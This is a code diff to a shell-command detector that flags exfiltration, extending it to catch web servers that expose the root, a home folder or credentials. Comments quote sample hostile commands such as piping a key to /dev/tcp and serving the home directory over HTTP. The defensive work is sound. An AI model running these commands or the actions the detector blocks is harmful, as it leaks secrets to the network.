@@ -28,9 +28,10 @@ from multiplex.shell.detection._secret_paths import (
     may_hold_secret,
     resolved,
 )
-from multiplex.shell.detection._targets import Place
+from multiplex.shell.detection._targets import Place, placed
 from multiplex.shell.detection._uploads import NC, NETWORK_TOOLS, UPLOADERS, uploads
 from multiplex.shell.detection._writes import all_commands, evidence, write_targets
+from multiplex.shell.parsing._argv import option_values
 from multiplex.shell.parsing._parsed import ParsedLine, SimpleCommand
 from multiplex.shell.parsing._unwrap import SHELLS
 
@@ -127,32 +128,45 @@ _SECRET_VAR = re.compile(
 )
 
 
-# Web servers of a folder: the option that names it (else their first operand).
+# Web servers of a folder: the option that names it (else their first operand); with
+# neither, each serves the folder it runs in.
 _SERVER_ROOTS = {"php": ("-t",), "busybox": ("-h",), "webfsd": ("-r",), "caddy": ("--root",),
-                 "serve": (), "http-server": (), "darkhttpd": (), "miniserve": ()}  # fmt: skip
+                 "twistd": ("--path",), "serve": (), "http-server": (), "darkhttpd": (),
+                 "miniserve": ()}  # fmt: skip
+
+
+def _serves(prog: str, args: list[str]) -> bool:
+    """Whether a program of ``_SERVER_ROOTS`` runs as a web server (``busybox httpd``,
+    ``php -S``, ``twistd web``) rather than another of its tools."""
+    if prog == "busybox":
+        return args[:1] == ["httpd"]
+    if prog == "php":
+        return bool({"-S", "--server"} & set(args))
+    return prog != "twistd" or "web" in args
 
 
 def _served(cmd: SimpleCommand) -> list[str]:
     """The folder a web server started by ``cmd`` serves to the network (``python -m
     http.server -d ~``, ``php -S 0.0.0.0:80 -t ~``, ``npx serve ~``, ``ruby -run -e httpd
-    /``), or nothing."""
+    /``; ``.`` when it names none), or nothing."""
     prog, args = cmd.program, list(cmd.argv[1:])
     if prog.startswith("python") and args[:2] == ["-m", "http.server"]:
-        rest = args[2:]
-        return [rest[i + 1] for i, a in enumerate(rest[:-1]) if a in ("-d", "--directory")] + [
-            a.partition("=")[2] for a in rest if a.startswith("--directory=")
-        ]
-    if prog == "ruby" and "httpd" in args and ("-run" in args or "-r" in args):
-        after = args[args.index("httpd") + 1 :]
-        return [a for a in after if not a.startswith("-")][:1]
-    if prog == "busybox" and args[:1] != ["httpd"]:
+        named = option_values(args[2:], ("-d", "--directory"))
+    elif prog == "ruby" and "httpd" in args and ("-run" in args or "-r" in args):
+        named = [a for a in args[args.index("httpd") + 1 :] if not a.startswith("-")][:1]
+    elif prog not in _SERVER_ROOTS or not _serves(prog, args):
         return []
-    if prog not in _SERVER_ROOTS:
-        return []
-    named = [args[i + 1] for i, a in enumerate(args[:-1]) if a in _SERVER_ROOTS[prog]]
-    if named or _SERVER_ROOTS[prog]:
-        return named
-    return [a for a in args if not a.startswith("-")][:1]
+    elif _SERVER_ROOTS[prog]:
+        named = option_values(args, _SERVER_ROOTS[prog])
+    else:
+        named = [a for a in args if not a.startswith("-")][:1]
+    return named or ["."]
+
+
+def _serves_secrets(folder: str, place: Place) -> bool:
+    """Whether a web server of ``folder`` serves ``/``, a home or a credential."""
+    root = folder.strip("/") == "" or any(p == "/" for p in resolved(folder, place))
+    return root or _sensitive_source(folder, place)
 
 
 def _sends_secret_variable(cmd: SimpleCommand) -> bool:
@@ -218,7 +232,8 @@ def each_network(parsed: ParsedLine, place: Place) -> Iterator[Finding]:
             yield Finding(EXFILTRATION, evidence(cmd), cmd.text)
         if cmd.redirects and network_redirect(cmd) and _reads_secrets(cmd, place):
             yield Finding(EXFILTRATION, evidence(cmd), cmd.text)  # cat KEY > /dev/tcp/h/80
-        if any(d.strip("/") == "" or _sensitive_source(d, place) for d in _served(cmd)):
+    for cmd, here in placed(parsed, place):  # cd ~ && python3 -m http.server
+        if cmd.argv and any(_serves_secrets(d, here) for d in _served(cmd)):
             yield Finding(EXFILTRATION, evidence(cmd), cmd.text)  # a web server of the home
     if redirecting:
         yield Finding(NETWORK_REDIRECT, evidence(redirecting[0]), redirecting[0].text)
